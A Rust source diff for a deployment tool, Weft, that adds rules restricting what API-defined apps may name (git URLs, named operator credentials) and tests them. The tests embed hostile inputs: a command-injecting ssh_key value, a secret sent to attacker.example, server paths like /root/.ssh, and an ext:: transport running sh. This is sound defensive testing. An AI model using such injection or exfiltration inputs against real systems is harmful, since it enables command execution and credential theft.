@@ -9,7 +9,7 @@ use serde::{Deserialize, Serialize};
 use crate::build::BuildSpec;
 use crate::render::AppSource;
 use crate::resource::is_dns_label;
-use crate::source::{Credentials, Repository};
+use crate::source::{CredentialSet, Credentials, Repository, Scheme, scheme_of};
 use crate::sync::PruneFuse;
 use crate::sync::normalize::IgnoreRule;
 
@@ -26,6 +26,18 @@ pub enum Env {
     Test,
     /// Development.
     Dev,
+}
+
+/// What an app defined through the API may name. Only git repositories — `https://` and `ssh://` (or
+/// `git@host:path`), `file://` when the operator allows it — and paths inside them, and the operator's credentials
+/// by name. Host resources are the operator's, in `weft.toml`: local directories, SSH key files, environment
+/// variables, and the `command` build backend (which runs a plan's commands on the server).
+#[derive(Debug, Clone, Default)]
+pub struct ApiAppRules {
+    /// Whether `file://` repositories are allowed (`[sources] allow_file_urls`).
+    pub allow_file_urls: bool,
+    /// The operator's named credentials.
+    pub credentials: CredentialSet,
 }
 
 /// One app.
@@ -132,6 +144,9 @@ pub struct SourceSpec {
     /// An SSH private key for an ssh repository.
     #[serde(default)]
     pub ssh_key: Option<PathBuf>,
+    /// An operator-defined credential (`[[credential]]` in `weft.toml`) by name: what an app from the API uses.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub credential: Option<String>,
 }
 
 fn default_path() -> String {
@@ -256,9 +271,20 @@ impl AppSpec {
         if self.source.repo.is_none()
             && (self.source.username.is_some()
                 || self.source.password_env.is_some()
-                || self.source.ssh_key.is_some())
+                || self.source.ssh_key.is_some()
+                || self.source.credential.is_some())
         {
             return Err(error("source", "credentials need a repo".into()));
+        }
+        if self.source.credential.is_some()
+            && (self.source.username.is_some()
+                || self.source.password_env.is_some()
+                || self.source.ssh_key.is_some())
+        {
+            return Err(error(
+                "source.credential",
+                "name a credential or give username/password_env/ssh_key, not both".into(),
+            ));
         }
         if self.source.username.is_some() != self.source.password_env.is_some() {
             return Err(error(
@@ -313,6 +339,90 @@ impl AppSpec {
         Ok(())
     }
 
+    /// Checks an app defined through the API against what such an app may name ([`ApiAppRules`]), after
+    /// [`AppSpec::validate`]. The error names the key and what to do instead.
+    pub fn check_api_rules(&self, rules: &ApiAppRules) -> Result<(), SpecError> {
+        let error = |key: &str, message: String| SpecError {
+            app: self.name.clone(),
+            key: key.to_string(),
+            message,
+        };
+        let Some(repo) = &self.source.repo else {
+            return Err(error(
+                "source.repo",
+                "an app defined through the API must name a git repository; a directory on the server is for \
+                 apps the operator declares in weft.toml"
+                    .into(),
+            ));
+        };
+        match scheme_of(repo) {
+            Some(Scheme::Https | Scheme::Ssh) => {}
+            Some(Scheme::File) if rules.allow_file_urls => {}
+            Some(Scheme::File) => {
+                return Err(error(
+                    "source.repo",
+                    "file:// repositories are accepted through the API only when the operator sets [sources] \
+                     allow_file_urls = true"
+                        .into(),
+                ));
+            }
+            Some(Scheme::Http) => {
+                return Err(error(
+                    "source.repo",
+                    format!("{repo:?}: plain http is not accepted through the API; use https://"),
+                ));
+            }
+            Some(Scheme::Path) => {
+                return Err(error(
+                    "source.repo",
+                    format!(
+                        "{repo:?} is a path on the server; an app defined through the API names a repository URL \
+                         (https://, ssh://)"
+                    ),
+                ));
+            }
+            None => {
+                return Err(error(
+                    "source.repo",
+                    format!(
+                        "{repo:?} is not a repository URL Weft accepts (https://, ssh://, git@host:path)"
+                    ),
+                ));
+            }
+        }
+        for (key, set) in [
+            ("source.username", self.source.username.is_some()),
+            ("source.password_env", self.source.password_env.is_some()),
+            ("source.ssh_key", self.source.ssh_key.is_some()),
+        ] {
+            if set {
+                return Err(error(
+                    key,
+                    "is the operator's to set: define a [[credential]] in weft.toml and name it with \
+                     source.credential"
+                        .into(),
+                ));
+            }
+        }
+        if let Some(name) = &self.source.credential {
+            rules
+                .credentials
+                .check(name, repo, self.org.as_deref())
+                .map_err(|e| error("source.credential", e.to_string()))?;
+        }
+        if let Some(build) = &self.build
+            && build.builder == crate::build::BuilderKind::Command
+        {
+            return Err(error(
+                "build.builder",
+                "the command backend runs the plan's commands on the server; an app defined through the API \
+                 builds with buildkit, podman or buildah"
+                    .into(),
+            ));
+        }
+        Ok(())
+    }
+
     /// Where the app's tree is, for the render pipeline. Reads the password from its environment variable.
     pub fn app_source(&self) -> Result<AppSource, SpecError> {
         let Some(url) = &self.source.repo else {
@@ -334,7 +444,7 @@ impl AppSpec {
                 })?,
             }),
             (_, _, Some(path)) => Some(Credentials::SshKey { path: path.clone() }),
-            _ => None,
+            _ => self.source.credential.clone().map(Credentials::Named),
         };
         Ok(AppSource::Git {
             repository: Repository {
@@ -401,6 +511,103 @@ type = "yaml"
 namespace = "shop"
 source = { path = "examples/shop" }
 "#;
+
+    fn api_app(source: &str, extra: &str) -> AppSpec {
+        spec(&format!(
+            "name = \"shop\"\ntype = \"yaml\"\nnamespace = \"shop\"\norg = \"acme\"\nsource = {source}\n{extra}"
+        ))
+    }
+
+    fn rules() -> ApiAppRules {
+        ApiAppRules {
+            allow_file_urls: false,
+            credentials: CredentialSet::new(vec![crate::source::CredentialSpec {
+                name: "acme".into(),
+                url: "https://git.example/acme/".into(),
+                username: Some("ci".into()),
+                password_env: Some("ACME_TOKEN".into()),
+                password_file: None,
+                ssh_key: None,
+                orgs: vec!["acme".into()],
+            }]),
+        }
+    }
+
+    fn refused_key(app: &AppSpec, rules: &ApiAppRules) -> String {
+        app.validate().unwrap();
+        app.check_api_rules(rules).unwrap_err().key
+    }
+
+    #[test]
+    fn an_api_app_may_not_name_host_resources() {
+        let rules = rules();
+        // The issue's inputs: a key path that would break out of the ssh command, a password variable sent to an
+        // attacker's URL, directories of the server.
+        let quote = api_app(
+            r#"{ repo = "ssh://git@git.example/acme/shop.git", ssh_key = "/k' ; touch /tmp/pwned ; echo '" }"#,
+            "",
+        );
+        assert_eq!(refused_key(&quote, &rules), "source.ssh_key");
+        let exfiltrate = api_app(
+            r#"{ repo = "https://attacker.example/x.git", username = "u", password_env = "WEFT_JWT_SECRET" }"#,
+            "",
+        );
+        assert_eq!(refused_key(&exfiltrate, &rules), "source.username");
+        let plain_http = api_app(r#"{ repo = "http://attacker.example/x.git" }"#, "");
+        assert_eq!(refused_key(&plain_http, &rules), "source.repo");
+        for path in ["/etc", "../../..", "/root/.ssh"] {
+            let local = api_app(&format!("{{ path = {path:?} }}"), "");
+            assert_eq!(refused_key(&local, &rules), "source.repo", "{path}");
+        }
+        let host_repo = api_app(r#"{ repo = "/srv/git/other-tenant.git" }"#, "");
+        assert_eq!(refused_key(&host_repo, &rules), "source.repo");
+        let file = api_app(r#"{ repo = "file:///srv/git/shop.git" }"#, "");
+        assert_eq!(refused_key(&file, &rules), "source.repo");
+        let mut allowing = rules.clone();
+        allowing.allow_file_urls = true;
+        file.check_api_rules(&allowing).unwrap();
+        let transport = api_app(r#"{ repo = "ext::sh -c touch% /tmp/pwned" }"#, "");
+        assert_eq!(refused_key(&transport, &rules), "source.repo");
+        let command = api_app(
+            r#"{ repo = "https://git.example/acme/shop.git" }"#,
+            "[build]\nbuilder = \"command\"",
+        );
+        assert_eq!(refused_key(&command, &rules), "build.builder");
+    }
+
+    #[test]
+    fn an_api_app_names_a_credential_that_covers_its_repository_and_org() {
+        let rules = rules();
+        let good = api_app(
+            r#"{ repo = "https://git.example/acme/shop.git", credential = "acme" }"#,
+            "",
+        );
+        good.validate().unwrap();
+        good.check_api_rules(&rules).unwrap();
+        assert!(matches!(
+            good.app_source().unwrap(),
+            AppSource::Git { repository: Repository { credentials: Some(Credentials::Named(name)), .. }, .. }
+                if name == "acme"
+        ));
+        let elsewhere = api_app(
+            r#"{ repo = "https://attacker.example/x.git", credential = "acme" }"#,
+            "",
+        );
+        assert_eq!(refused_key(&elsewhere, &rules), "source.credential");
+        let mut other_org = good.clone();
+        other_org.org = Some("other".into());
+        assert_eq!(refused_key(&other_org, &rules), "source.credential");
+        let unknown = api_app(
+            r#"{ repo = "https://git.example/acme/shop.git", credential = "nope" }"#,
+            "",
+        );
+        assert_eq!(refused_key(&unknown, &rules), "source.credential");
+        let both = api_app(
+            r#"{ repo = "https://git.example/acme/shop.git", credential = "acme", ssh_key = "/k" }"#,
+            "",
+        );
+        assert_eq!(both.validate().unwrap_err().key, "source.credential");
+    }
 
     #[test]
     fn a_minimal_app_has_safe_defaults() {
